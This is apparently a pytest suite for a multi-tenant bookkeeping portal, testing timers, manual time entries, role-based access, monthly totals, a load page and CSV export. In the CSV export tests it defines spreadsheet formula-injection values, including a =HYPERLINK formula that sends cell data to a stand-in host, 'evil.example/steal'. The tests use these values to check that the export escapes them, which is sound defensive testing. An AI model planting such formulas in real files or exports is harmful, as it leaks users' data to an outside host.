"""Time on tasks and the managers' team load, through the pages as people use them (real database, RLS)."""

from __future__ import annotations

import re
import uuid
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, date, datetime, timedelta
from datetime import time as dt_time
from pathlib import Path

from sqlalchemy import select, update

# The routes register on the work blueprint when this module is imported; until ``portal.work.init_app``
# imports it too, importing it here (before the app is built) keeps these tests self-contained.
from portal.extensions import db
from portal.work import time as timing
from portal.work.models import Task, TimeEntry
from tenants.audit import PlatformAuditEvent
from tenants.context import Scope, bound, for_tenant
from tenants.policy import Role
from tests.factories import csrf_token, login, make_person

SECRET_NOTE = "called the bank about the missing March statement"
TASK_PAGE = Path(__file__).resolve().parents[2] / "portal/work/templates/work/task.html"


def _open_task(client, slug: str, **fields) -> str:
    """Open a task through the tasks page; returns the task page's URL."""
    url = f"/t/{slug}/tasks"
    data = {"csrf_token": csrf_token(client, url), "title": "Reconcile the March bank statements",
            "line": "bookkeeping", "priority": "3", **fields}
    r = client.post(url, data=data)
    assert r.status_code == 302, r.data[:300]
    return r.headers["Location"]


def _signed_in(app, person):
    client = app.test_client()
    login(client, person)
    return client


def _entries(app, tenant_ids, user_id: uuid.UUID) -> list[tuple]:
    """The person's time entries in ``tenant_ids``: (tenant, task, minutes, running, billable, note)."""
    with app.app_context(), bound(Scope(tenant_ids=frozenset(tenant_ids))):
        rows = db.session.scalars(select(TimeEntry).where(TimeEntry.user_id == user_id)
                                  .order_by(TimeEntry.created_at)).all()
        return [(e.tenant_id, e.task_id, e.minutes, e.ended_at is None, e.billable, e.note) for e in rows]


def _today(app) -> date:
    """Today where the test tenants are (Ho Chi Minh City, the default): their time is counted on their days."""
    from zoneinfo import ZoneInfo

    from tenants.zones import today_in

    return today_in(ZoneInfo("Asia/Ho_Chi_Minh"))


def _task_id(task_url: str) -> uuid.UUID:
    return uuid.UUID(task_url.rsplit("/", 1)[1])


def _as_it_stood(app, tenant_id: uuid.UUID, task_url: str, **values) -> None:
    """Rewrite a task as if opened earlier (the forms refuse dates that have passed, and time before it opened)."""
    with app.app_context(), for_tenant(tenant_id):
        db.session.execute(update(Task).where(Task.id == _task_id(task_url)).values(**values))
        db.session.commit()


def test_a_timer_records_at_least_a_minute_and_a_double_start_keeps_one_timer(app, world):
    manager = _signed_in(app, world["manager"])
    task_url = _open_task(manager, world.a.slug, assignee=str(world["staff"].id))
    staff = _signed_in(app, world["staff"])
    token = csrf_token(staff, task_url)

    first = staff.post(task_url + "/timer/start", data={"csrf_token": token, "billable": "1"})
    second = staff.post(task_url + "/timer/start", data={"csrf_token": token, "billable": "1"})
    assert first.status_code == second.status_code == 302
    assert "already running" in staff.get(second.headers["Location"]).get_data(as_text=True)
    entries = _entries(app, {world.a.id}, world["staff"].id)
    assert [(running, minutes) for _, _, minutes, running, _, _ in entries] == [(True, None)]

    r = staff.post(task_url + "/timer/stop", data={"csrf_token": token})
    assert r.status_code == 302
    assert "1 min logged" in staff.get(r.headers["Location"]).get_data(as_text=True)
    [(_, task, minutes, running, billable, _)] = _entries(app, {world.a.id}, world["staff"].id)
    assert task == _task_id(task_url) and minutes == 1 and not running and billable

    # Stopping again (a double click) changes nothing and says so.
    r = staff.post(task_url + "/timer/stop", data={"csrf_token": token})
    assert "nothing to stop" in staff.get(r.headers["Location"]).get_data(as_text=True)
    assert len(_entries(app, {world.a.id}, world["staff"].id)) == 1

    # A real double click: two requests at the same moment (two tabs of the same person).
    other_tab = _signed_in(app, world["staff"])
    other_token = csrf_token(other_tab, task_url)
    with ThreadPoolExecutor(2) as pool:
        answers = list(pool.map(lambda c: c[0].post(task_url + "/timer/start", data={"csrf_token": c[1]}),
                                [(staff, token), (other_tab, other_token)]))
    assert [a.status_code for a in answers] == [302, 302]
    running = [e for e in _entries(app, {world.a.id}, world["staff"].id) if e[3]]
    assert len(running) == 1



def test_a_timer_left_running_over_a_weekend_logs_at_most_twelve_hours_and_says_so(app, world):
    manager = _signed_in(app, world["manager"])
    task_url = _open_task(manager, world.a.slug, assignee=str(world["staff"].id))
    staff = _signed_in(app, world["staff"])
    token = csrf_token(staff, task_url)
    assert staff.post(task_url + "/timer/start", data={"csrf_token": token, "billable": "1"}).status_code == 302
    with app.app_context(), for_tenant(world.a.id):  # started on Friday evening, stopped on Monday
        entry = db.session.scalars(select(TimeEntry).where(TimeEntry.user_id == world["staff"].id,
                                                           TimeEntry.ended_at.is_(None))).one()
        entry.started_at -= timedelta(hours=62)
        started = entry.started_at
        db.session.commit()
    r = staff.post(task_url + "/timer/stop", data={"csrf_token": token})
    page = staff.get(r.headers["Location"]).get_data(as_text=True)
    assert "more than 12 hours, so 720 min were logged" in page and "manual entry" in page
    with app.app_context(), for_tenant(world.a.id):
        entry = db.session.scalars(select(TimeEntry).where(TimeEntry.user_id == world["staff"].id)).one()
        assert entry.minutes == timing.MAX_TIMER_MINUTES == 720
        assert entry.ended_at - started == timedelta(hours=12)

    # The same when the forgotten timer is stopped by starting another one.
    other_url = _open_task(manager, world.a.slug, title="Post the March receipts", assignee=str(world["staff"].id))
    assert staff.post(task_url + "/timer/start", data={"csrf_token": token}).status_code == 302
    with app.app_context(), for_tenant(world.a.id):
        running = db.session.scalars(select(TimeEntry).where(TimeEntry.ended_at.is_(None))).one()
        running.started_at -= timedelta(hours=20)
        db.session.commit()
    r = staff.post(other_url + "/timer/start", data={"csrf_token": csrf_token(staff, other_url)})
    page = staff.get(r.headers["Location"]).get_data(as_text=True)
    assert "had run for more than 12 hours, so 720 min were logged there" in page

def test_starting_a_timer_stops_the_one_running_for_another_client(app, world):
    admin = _signed_in(app, world["provider_admin"])  # works for every client
    beta_url = _open_task(admin, world.b.slug, title="Run the Beta payroll")
    alpha_url = _open_task(admin, world.a.slug, title="Close the Alpha books")
    r = admin.post(beta_url + "/timer/start", data={"csrf_token": csrf_token(admin, beta_url), "billable": "1"})
    assert r.status_code == 302
    r = admin.post(alpha_url + "/timer/start", data={"csrf_token": csrf_token(admin, alpha_url), "billable": "1"})
    assert r.status_code == 302
    page = admin.get(r.headers["Location"]).get_data(as_text=True)
    assert "Timer started" in page and "Run the Beta payroll" in page

    entries = _entries(app, {world.a.id, world.b.id}, world["provider_admin"].id)
    by_tenant = {tenant: (task, minutes, running) for tenant, task, minutes, running, _, _ in entries}
    assert by_tenant[world.b.id] == (_task_id(beta_url), 1, False)
    assert by_tenant[world.a.id] == (_task_id(alpha_url), None, True)
    # Looking into the other client was the one recorded cross-tenant read.
    with app.app_context():
        last = db.session.scalars(select(PlatformAuditEvent)
                                  .where(PlatformAuditEvent.actor_id == world["provider_admin"].id,
                                         PlatformAuditEvent.action == "cross_tenant.read")
                                  .order_by(PlatformAuditEvent.seq.desc()).limit(1)).one()
        assert "timer" in last.data["reason"]


def test_manual_entries_are_checked_and_only_their_author_deletes_them(app, world):
    manager = _signed_in(app, world["manager"])
    task_url = _open_task(manager, world.a.slug, assignee=str(world["staff"].id))
    staff = _signed_in(app, world["staff"])
    token = csrf_token(staff, task_url)
    today = _today(app)

    def log(**fields):
        return staff.post(task_url + "/time", data={"csrf_token": token, "day": today.isoformat(),
                                                    "minutes": "45", "billable": "1", **fields})

    for fields, sentence in [({"minutes": "0"}, "from 1 to 1440"), ({"minutes": "1441"}, "from 1 to 1440"),
                             ({"minutes": "an hour"}, "whole minutes"), ({"day": "2031-13-01"}, "YYYY-MM-DD"),
                             ({"day": (today + timedelta(days=1)).isoformat()}, "in the future"),
                             ({"note": "x" * 301}, "at most 300 characters")]:
        r = log(**fields)
        assert r.status_code == 422, fields
        assert sentence in r.get_data(as_text=True), fields
    assert _entries(app, {world.a.id}, world["staff"].id) == []

    r = log(minutes="1440", note=SECRET_NOTE)
    assert r.status_code == 302
    assert "1440 min logged" in staff.get(r.headers["Location"]).get_data(as_text=True)
    [(_, _, minutes, running, billable, note)] = _entries(app, {world.a.id}, world["staff"].id)
    assert (minutes, running, billable, note) == (1440, False, True, SECRET_NOTE)

    with app.app_context(), for_tenant(world.a.id):
        entry_id = db.session.scalar(select(TimeEntry.id).where(TimeEntry.user_id == world["staff"].id))
    delete_url = f"/t/{world.a.slug}/time/{entry_id}/delete"
    r = manager.post(delete_url, data={"csrf_token": csrf_token(manager, task_url)})
    assert r.status_code == 403 and "only your own time entries" in r.get_data(as_text=True)
    assert staff.post(f"/t/{world.a.slug}/time/{uuid.uuid4()}/delete", data={"csrf_token": token}).status_code == 404
    r = staff.post(delete_url, data={"csrf_token": token})
    assert r.status_code == 302 and "Time entry deleted" in staff.get(r.headers["Location"]).get_data(as_text=True)
    assert _entries(app, {world.a.id}, world["staff"].id) == []

    # A finished task takes no timer: the refusal says to log the time by hand.
    manager.post(task_url + "/move", data={"csrf_token": csrf_token(manager, task_url), "move": "cancel",
                                           "reason": "The client closed the account"})
    r = staff.post(task_url + "/timer/start", data={"csrf_token": token})
    assert r.status_code == 409 and "manual entry" in r.get_data(as_text=True)
    assert log(minutes="20").status_code == 302


def test_clients_cannot_reach_time_and_never_see_it_on_the_task_page(app, world):
    manager = _signed_in(app, world["manager"])
    task_url = _open_task(manager, world.a.slug, assignee=str(world["staff"].id))
    staff = _signed_in(app, world["staff"])
    token = csrf_token(staff, task_url)
    staff.post(task_url + "/time", data={"csrf_token": token, "day": _today(app).isoformat(), "minutes": "95",
                                         "billable": "1", "note": SECRET_NOTE})
    staff.post(task_url + "/timer/start", data={"csrf_token": token, "billable": "1"})
    with app.app_context(), for_tenant(world.a.id):
        entry_id = db.session.scalar(select(TimeEntry.id).where(TimeEntry.minutes == 95,
                                                                TimeEntry.user_id == world["staff"].id))

    for key in ("a_client_admin", "a_client_approver", "a_client_member"):
        client = _signed_in(app, world[key])
        page = client.get(task_url).get_data(as_text=True)
        assert SECRET_NOTE not in page and 'data-testid="time"' not in page and "1:35" not in page
        assert "/timer/" not in page and "Start a timer" not in page
        own = csrf_token(client, task_url)
        for url in (task_url + "/timer/start", task_url + "/timer/stop", task_url + "/time",
                    f"/t/{world.a.slug}/time/{entry_id}/delete"):
            r = client.post(url, data={"csrf_token": own, "day": "2030-01-01", "minutes": "5"})
            assert r.status_code in (403, 404), (key, url, r.status_code)
        r = client.get(f"/t/{world.a.slug}/time")
        assert r.status_code in (403, 404) and SECRET_NOTE not in r.get_data(as_text=True)
    assert [e[2] for e in _entries(app, {world.a.id}, world["staff"].id)] == [95, None]


def test_the_task_page_shows_the_team_its_time(app, world):
    manager = _signed_in(app, world["manager"])
    task_url = _open_task(manager, world.a.slug, assignee=str(world["staff"].id))
    staff = _signed_in(app, world["staff"])
    token = csrf_token(staff, task_url)
    staff.post(task_url + "/time", data={"csrf_token": token, "day": _today(app).isoformat(), "minutes": "95",
                                         "billable": "1", "note": SECRET_NOTE})
    staff.post(task_url + "/timer/start", data={"csrf_token": token, "billable": "1"})
    page = staff.get(task_url).get_data(as_text=True)
    assert 'data-testid="time"' in page and SECRET_NOTE in page and "1:35" in page
    assert 'data-testid="timer-stop"' in page and 'data-testid="timer-start"' not in page


def test_month_totals_split_billable_and_non_billable_time(app, world):
    manager = _signed_in(app, world["manager"])
    close_url = _open_task(manager, world.a.slug, title="Month-end close", assignee=str(world["staff"].id))
    vat_url = _open_task(manager, world.a.slug, title="VAT return")
    staff = _signed_in(app, world["staff"])
    today = _today(app)
    first = today.replace(day=1)
    _as_it_stood(app, world.a.id, close_url, created_at=datetime.combine(first - timedelta(days=1), dt_time(), UTC))
    token = csrf_token(staff, close_url)
    for minutes, billable in (("30", "1"), ("15", None)):
        data = {"csrf_token": token, "day": first.isoformat(), "minutes": minutes}
        if billable:
            data["billable"] = billable
        assert staff.post(close_url + "/time", data=data).status_code == 302
    # Last month's work belongs to last month.
    staff.post(close_url + "/time", data={"csrf_token": token, "day": (first - timedelta(days=1)).isoformat(),
                                          "minutes": "50", "billable": "1"})
    manager.post(vat_url + "/time", data={"csrf_token": csrf_token(manager, vat_url), "day": today.isoformat(),
                                          "minutes": "20", "billable": "1"})

    with app.app_context():
        with for_tenant(world.a.id):
            totals = timing.month_totals(today.year, today.month)
        assert (totals.billable, totals.non_billable, totals.total) == (50, 15, 65)
        people = {p.key: (p.billable, p.non_billable) for p in totals.people}
        assert people == {world["staff"].id: (30, 15), world["manager"].id: (20, 0)}
        assert {t.name: (t.billable, t.non_billable) for t in totals.tasks} == {"Month-end close": (30, 15),
                                                                                "VAT return": (20, 0)}
        with for_tenant(world.b.id):
            assert timing.month_totals(today.year, today.month).total == 0

    month = today.strftime("%Y-%m")
    page = manager.get(f"/t/{world.a.slug}/time?month={month}").get_data(as_text=True)
    assert re.search(r'data-testid="month-billable" data-minutes="50"', page)
    assert re.search(r'data-testid="month-non-billable" data-minutes="15"', page)
    assert "Month-end close" in page and "VAT return" in page
    assert staff.get(f"/t/{world.a.slug}/time").status_code == 403  # staff log time; managers read months
    r = manager.get(f"/t/{world.a.slug}/time?month=May")
    assert r.status_code == 422 and "YYYY-MM" in r.get_data(as_text=True)
    empty = manager.get(f"/t/{world.a.slug}/time?month=2001-01").get_data(as_text=True)
    assert 'data-testid="month-empty"' in empty


def test_the_load_page_shows_a_managers_clients_only(app, world):
    manager = _signed_in(app, world["manager"])
    yesterday = _today(app) - timedelta(days=1)
    late_url = _open_task(manager, world.a.slug, title="File the overdue Alpha VAT return",
                          assignee=str(world["staff"].id))
    _as_it_stood(app, world.a.id, late_url, due_date=yesterday)
    admin = _signed_in(app, world["provider_admin"])
    beta_url = _open_task(admin, world.b.slug, title="Overdue Beta confidential filing",
                          assignee=str(world["provider_admin"].id))
    _as_it_stood(app, world.b.id, beta_url, due_date=yesterday)

    r = manager.get("/provider/load")
    assert r.status_code == 200
    page = r.get_data(as_text=True)
    assert "File the overdue Alpha VAT return" in page and late_url in page
    staff_row = re.search(rf'data-person="{world["staff"].id}">(.*?)</tr>', page, re.S).group(1)
    assert world["staff"].email.split("@")[0] in staff_row
    assert re.search(r'data-testid="overdue-count"><strong>1</strong>', staff_row)
    assert '<meter min="0" max="100" value="100"' in staff_row and " style=" not in page
    for secret in ("Overdue Beta confidential filing", world.b.name, world.b.slug, str(world.b.id)):
        assert secret not in page

    # The provider admin works for every client: both overdue tasks.
    everything = admin.get("/provider/load").get_data(as_text=True)
    assert "File the overdue Alpha VAT return" in everything and "Overdue Beta confidential filing" in everything

    # Staff (assigned or not) may not open it; a client does not even find it.
    assert _signed_in(app, world["unassigned_staff"]).get("/provider/load").status_code == 403
    assert _signed_in(app, world["staff"]).get("/provider/load").status_code == 403
    assert _signed_in(app, world["a_client_admin"]).get("/provider/load").status_code == 404

    # A manager without clients: an empty state that says what to do.
    with app.app_context():
        newcomer = make_person(Role.MANAGER)
    page = _signed_in(app, newcomer).get("/provider/load").get_data(as_text=True)
    assert 'data-testid="load-empty"' in page and "Assignments page" in page


# --- the month as CSV ---------------------------------------------------------------------------

FORMULA_NOTE = '=HYPERLINK("https://evil.example/steal?d="&A1,"Open the statement")'
FORMULA_TITLE = '=HYPERLINK("https://evil.example","VAT return")'
VIETNAMESE_NAME = "Nguyễn Thị Ánh"


def _csv(response) -> list[dict[str, str]]:
    """The rows of a CSV download (after checking it is one, with its byte order mark)."""
    import csv
    import io

    assert response.status_code == 200, response.data[:300]
    assert response.mimetype == "text/csv" and response.mimetype_params.get("charset") == "utf-8"
    assert response.headers["X-Content-Type-Options"] == "nosniff" and "no-store" in response.headers["Cache-Control"]
    assert response.data.startswith(b"\xef\xbb\xbf")
    reader = csv.DictReader(io.StringIO(response.data.decode("utf-8")[1:]))
    assert reader.fieldnames == ["date", "person", "task", "service_line", "minutes", "hours", "billable", "note"]
    return list(reader)


def _log(client, task_url: str, day: date, minutes: int, billable: bool, note: str = "") -> None:
    data = {"csrf_token": csrf_token(client, task_url), "day": day.isoformat(), "minutes": str(minutes),
            "note": note}
    if billable:
        data["billable"] = "1"
    r = client.post(task_url + "/time", data=data)
    assert r.status_code == 302, r.get_data(as_text=True)[:300]


def _move_entry(app, tenant_id, minutes: int, started_at) -> None:
    """Put the entry of ``minutes`` at another moment (a timer started just after midnight, last month's work)."""
    with app.app_context(), for_tenant(tenant_id):
        entry = db.session.scalars(select(TimeEntry).where(TimeEntry.minutes == minutes)).one()
        entry.ended_at = started_at + (entry.ended_at - entry.started_at)
        entry.started_at = started_at
        db.session.commit()


def test_the_month_downloads_as_csv_that_adds_up_to_what_was_logged(app, world):
    from zoneinfo import ZoneInfo

    from tenants.audit import AuditEvent
    from tenants.models import User
    from tenants.zones import start_of_day
    from tests.api.util import bearer, issue_token

    with app.app_context():
        db.session.get(User, world["staff"].id).name = VIETNAMESE_NAME
        db.session.commit()
    manager_name = world["manager"].email.split("@")[0]
    manager = _signed_in(app, world["manager"])
    staff = _signed_in(app, world["staff"])
    close_url = _open_task(manager, world.a.slug, title="Month-end close", assignee=str(world["staff"].id))
    vat_url = _open_task(manager, world.a.slug, title=FORMULA_TITLE, line="payroll")
    today = _today(app)
    zone = ZoneInfo("Asia/Ho_Chi_Minh")
    month = today.strftime("%Y-%m")

    # What is logged, and so what the file must say: (date, person, task, line, minutes, billable, note).
    _log(staff, close_url, today, 95, True, FORMULA_NOTE)
    _log(staff, close_url, today, 15, False, "-2 min for the bank's fee")
    _log(manager, vat_url, today, 20, True, "@cfo asked for it")
    _log(staff, close_url, today, 50, True, "last month's work")
    token = csrf_token(staff, vat_url)
    staff.post(vat_url + "/timer/start", data={"csrf_token": token, "billable": "1"})
    staff.post(vat_url + "/timer/stop", data={"csrf_token": token})  # 1 min
    # The timer started five minutes into today in Ho Chi Minh City: still yesterday in UTC.
    _move_entry(app, world.a.id, 1, start_of_day(today, zone) + timedelta(minutes=5))
    # The 50 minutes were done a minute before this month began, in the tenant's calendar.
    _move_entry(app, world.a.id, 50, start_of_day(today.replace(day=1), zone) - timedelta(minutes=1))
    manager.post(close_url + "/timer/start", data={"csrf_token": csrf_token(manager, close_url)})  # still running
    admin = _signed_in(app, world["provider_admin"])
    _log(admin, _open_task(admin, world.b.slug, title="Beta payroll run"), today, 30, True, "Beta's secret")

    day = today.isoformat()
    expected = sorted([
        (day, VIETNAMESE_NAME, "Month-end close", "Bookkeeping", "95", "1.58", "yes", "'" + FORMULA_NOTE),
        (day, VIETNAMESE_NAME, "Month-end close", "Bookkeeping", "15", "0.25", "no", "'-2 min for the bank's fee"),
        (day, manager_name, "'" + FORMULA_TITLE, "Payroll", "20", "0.33", "yes", "'@cfo asked for it"),
        (day, VIETNAMESE_NAME, "'" + FORMULA_TITLE, "Payroll", "1", "0.02", "yes", ""),
    ])
    r = manager.get(f"/t/{world.a.slug}/time.csv?month={month}")
    assert r.headers["Content-Disposition"] == f"attachment; filename=time-{world.a.slug}-{month}.csv"
    rows = _csv(r)
    assert sorted(tuple(row.values()) for row in rows) == expected
    billable = sum(int(row["minutes"]) for row in rows if row["billable"] == "yes")
    non_billable = sum(int(row["minutes"]) for row in rows if row["billable"] == "no")
    assert (billable, non_billable) == (95 + 20 + 1, 15)
    # The page it was downloaded from says the same, and offers the file.
    page = manager.get(f"/t/{world.a.slug}/time?month={month}").get_data(as_text=True)
    assert f'data-testid="month-billable" data-minutes="{billable}"' in page
    assert f'data-testid="month-non-billable" data-minutes="{non_billable}"' in page
    assert f"/t/{world.a.slug}/time.csv?month={month}" in page and "Download CSV" in page

    # Last month's file holds the 50 minutes, on the last day of that month.
    last_month = today.replace(day=1) - timedelta(days=1)
    [row] = _csv(manager.get(f"/t/{world.a.slug}/time.csv?month={last_month:%Y-%m}"))
    assert (row["date"], row["minutes"], row["hours"]) == (last_month.isoformat(), "50", "0.83")

    # The API gives the same file to a manager's token.
    raw = issue_token(app, world["manager"], world.a)
    r = app.test_client().get(f"/api/v1/tenants/{world.a.slug}/time.csv?month={month}", headers=bearer(raw))
    assert sorted(tuple(row.values()) for row in _csv(r)) == expected
    bad = app.test_client().get(f"/api/v1/tenants/{world.a.slug}/time.csv?month=May", headers=bearer(raw))
    assert bad.status_code == 422 and "YYYY-MM" in bad.get_data(as_text=True)

    # Each download is in the tenant's log, internal to the provider.
    with app.app_context(), for_tenant(world.a.id):
        events = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "time.exported")
                                    .order_by(AuditEvent.seq)).all()
        assert [(e.actor_id, e.internal, e.details["month"], e.details["entries"], e.details["via"])
                for e in events] == [(world["manager"].id, True, month, 4, "page"),
                                     (world["manager"].id, True, f"{last_month:%Y-%m}", 1, "page"),
                                     (world["manager"].id, True, month, 4, "api")]
    access_log = _signed_in(app, world["a_client_admin"]).get(f"/t/{world.a.slug}/access-log")
    assert access_log.status_code == 200 and "time.exported" not in access_log.get_data(as_text=True)


def test_only_those_who_may_read_the_month_download_it(app, world):
    from tests.api.util import bearer, issue_token

    manager = _signed_in(app, world["manager"])
    task_url = _open_task(manager, world.a.slug)
    _log(manager, task_url, _today(app), 45, True, SECRET_NOTE)
    url = f"/t/{world.a.slug}/time.csv"

    # Clients never see time; staff log it but do not read months; another tenant's slug is not found.
    for key in ("a_client_admin", "a_client_approver", "a_client_member", "staff"):
        r = _signed_in(app, world[key]).get(url)
        assert r.status_code == 403 and SECRET_NOTE not in r.get_data(as_text=True), key
    for key in ("b_client_admin", "unassigned_staff"):
        r = _signed_in(app, world[key]).get(url)
        assert r.status_code == 404 and SECRET_NOTE not in r.get_data(as_text=True), key
    assert manager.get(f"/t/{world.b.slug}/time.csv").status_code == 404

    # The API: a client's token is refused, and a token works in its own tenant only.
    client_token = issue_token(app, world["a_client_admin"], world.a)
    r = app.test_client().get(f"/api/v1/tenants/{world.a.slug}/time.csv", headers=bearer(client_token))
    assert r.status_code == 403 and SECRET_NOTE not in r.get_data(as_text=True)
    manager_token = issue_token(app, world["manager"], world.a)
    r = app.test_client().get(f"/api/v1/tenants/{world.b.slug}/time.csv", headers=bearer(manager_token))
    assert r.status_code == 404
    assert app.test_client().get(f"/api/v1/tenants/{world.a.slug}/time.csv").status_code == 401

    with app.app_context(), for_tenant(world.a.id):
        from tenants.audit import AuditEvent

        assert db.session.scalars(select(AuditEvent).where(AuditEvent.action == "time.exported")).all() == []
